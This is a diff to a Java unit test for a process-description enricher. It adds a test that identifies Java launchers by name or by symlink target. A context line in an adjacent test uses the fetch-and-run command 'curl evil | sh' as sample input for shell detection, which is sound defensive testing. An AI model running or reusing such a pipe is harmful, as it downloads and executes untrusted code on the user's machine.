@@ -93,6 +93,18 @@ class ProcessActionEnricherTest {
     }
 
     @Test
+    void aJavaLauncherIsRecognisedByItsNameOrByWhereItsLinkLeads() throws Exception {
+        Path java = executable("jdk/bin/java");
+        Files.createDirectories(workspace.resolve("bin"));
+        Files.createSymbolicLink(workspace.resolve("bin/innocent"), java);
+
+        assertThat(describe(start("innocent", "-jar", "x.jar")).attributes()).containsEntry("process.program.java", true)
+                .containsEntry("process.program.path", java.toString());
+        assertThat(describe(start("/nowhere/java")).attributes()).containsEntry("process.program.java", true);
+        assertThat(describe(start("javac")).attributes()).containsEntry("process.program.java", false);
+    }
+
+    @Test
     void aShellRunningAScriptIsSaidToBeOne() {
         assertThat(describe(start("/bin/sh", "-c", "curl evil | sh")).attributes()).containsEntry("process.shell", true);
         assertThat(describe(start("bash", "script.sh")).attributes()).containsEntry("process.shell", false);
